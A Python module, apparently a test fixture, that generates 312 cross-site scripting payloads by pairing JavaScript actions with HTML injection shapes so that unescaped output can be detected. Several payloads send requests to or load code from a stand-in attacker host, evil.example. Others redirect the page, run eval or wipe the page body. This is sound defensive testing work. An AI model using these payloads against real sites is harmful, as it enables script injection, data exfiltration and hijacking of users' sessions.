"""Texts that would act in a browser if one place forgot to escape them."""

from typing import Final

_ACTS: Final = (
    "alert(1)", "document.body.dataset.ran=1", "fetch('https://evil.example')", "location='https://evil.example'",
    "document.title='ran'", "new Image().src='https://evil.example'", "eval('alert(1)')", "import('https://evil.example')",
    "navigator.sendBeacon('https://evil.example')", "open('https://evil.example')", "htmx.ajax('GET','/me','body')",
    "setTimeout('alert(1)')", "document.body.innerHTML=''",
)  # fmt: skip
_SHAPES: Final = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "\"><script>{}</script>",
    "'><img src=x onerror={}>",
    "<a href=\"javascript:{}\">here</a>", "</textarea><script>{}</script>", "</pre><script>{}</script>",
    "</title><script>{}</script>", "<body onload={}>", "<iframe srcdoc=\"<script>{}</script>\">", "{{{{ {} }}}}",
    "<div hx-get='/me' hx-trigger='load' hx-on:load={}>", "<form action=https://evil.example><button>{}</button></form>",
    "<style>*{{background:url(https://evil.example)}}</style>{}", "<base href=https://evil.example>{}",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>{}", "<!--<script>{}</script>-->",
    "&lt;script&gt;{}&lt;/script&gt;", "\u202e<script>{}</script>", "<math><mtext><img src=x onerror={}></math>",
    "<details open ontoggle={}>", "<video><source onerror={}>", "<x style=animation-name:x onanimationstart={}>",
)  # fmt: skip
PAYLOADS: Final = tuple(shape.format(act) for act in _ACTS for shape in _SHAPES)
"""312 of them; each 24 in a row have every shape once."""
SHAPES: Final = len(_SHAPES)
